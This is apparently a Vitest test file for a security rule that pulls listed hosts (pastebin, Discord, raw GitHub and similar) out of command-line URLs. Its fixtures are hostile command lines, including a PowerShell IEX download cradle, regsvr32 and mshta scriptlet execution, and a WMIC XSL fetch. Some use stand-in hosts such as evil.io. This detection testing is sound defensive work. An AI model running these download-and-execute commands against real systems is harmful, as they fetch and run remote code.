import { describe, expect, it } from 'vitest';
import { loadDefaultRule } from '../../lib/rule/index.ts';

describe('Matcher: listed hosts in command-line URLs', () => {
  it.each([
    [
      'a PowerShell WebClient download',
      `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/abc123')"`,
      ['pastebin.com'],
    ],
    [
      'a regsvr32 scriptlet (no quotes, ends at the path)',
      'regsvr32.exe /s /n /u /i:http://pastebin.com/raw/yyy scrobj.dll',
      ['pastebin.com'],
    ],
    [
      'a WMIC XSL stylesheet in double quotes',
      'wmic os get /format:"https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/wmicscript.xsl"',
      ['raw.githubusercontent.com'],
    ],
    [
      'an mshta GetObject script: moniker',
      'mshta.exe javascript:a=GetObject("script:https://raw.githubusercontent.com/x/y/master/z.sct").Exec();close();',
      ['raw.githubusercontent.com'],
    ],
    ['userinfo and a port', 'curl https://user:pa55@API.GitHub.com:443/repos', ['api.github.com']],
    ['a host after a userinfo that looks listed', 'curl https://pastebin.com@evil.io/x', []],
    [
      'a listed host after an unlisted userinfo',
      'curl https://evil.io@pastebin.com/x',
      ['pastebin.com'],
    ],
    ['an IPv6 literal', 'curl http://[2606:4700::6810:1234]:443/pastebin.com', []],
    ['a trailing dot', 'curl https://pastebin.com./raw/x', ['pastebin.com']],
    ['a port and no path', 'wget http://paste.ee:8080', ['paste.ee']],
    ['a query right after the host', 'curl https://top4top.io?x=1', ['top4top.io']],
    ['a fragment right after the host', 'curl https://gitee.com#top', ['gitee.com']],
    ['a closing parenthesis after the host', '(iwr https://discord.com)', ['discord.com']],
    ['single quotes', "iwr 'https://api.slack.com'", ['api.slack.com']],
    [
      'an upper-case scheme and host',
      'Invoke-RestMethod HTTPS://Discord.COM/api/webhooks/1',
      ['discord.com'],
    ],
    [
      'a subdomain (the host is returned, not the listed domain)',
      'curl https://storage.googleapis.com/b/o',
      ['storage.googleapis.com'],
    ],
    ['a look-alike host', 'curl https://evilpastebin.com/raw/x', []],
    ['a look-alike suffix', 'curl https://pastebin.com.evil.io/raw/x', []],
    ['an unlisted host', 'curl https://example.com/pastebin.com', []],
    ['a host without a scheme', 'curl pastebin.com/raw/x', []],
    ['no URL at all', 'cmd.exe /c whoami', []],
    ['an empty command line', '', []],
    ['a separator with no scheme', 'echo ://pastebin.com', []],
    ['an ftp URL', 'ftp -s:x ftp://paste.ee/up', ['paste.ee']],
    [
      'a scheme that is not http, https or ftp',
      'x file://pastebin.com/raw hxxps://pastebin.com/raw',
      [],
    ],
    ['a scheme glued to a word', 'x /u:xhttps://pastebin.com/raw', []],
    [
      'a host cut at a character a hostname cannot hold',
      'curl https://c2_node.pastebin.com/raw',
      [],
    ],
  ])('finds the listed hosts in %s', (_label, cmdLine, expected) => {
    // Prepare
    const rule = loadDefaultRule();

    // Act
    const hosts = rule.listedUrlHosts(cmdLine);

    // Assess
    expect(hosts).toEqual(expected);
  });

  it('de-duplicates hosts that differ only in case and trailing dot', () => {
    // Prepare
    const rule = loadDefaultRule();
    const cmdLine =
      'curl https://pastebin.com/a https://PASTEBIN.COM/b http://pastebin.com./c https://cdn.discordapp.com/attachments/1';

    // Act
    const hosts = rule.listedUrlHosts(cmdLine);

    // Assess
    expect([...hosts].sort()).toEqual(['cdn.discordapp.com', 'pastebin.com']);
  });
});
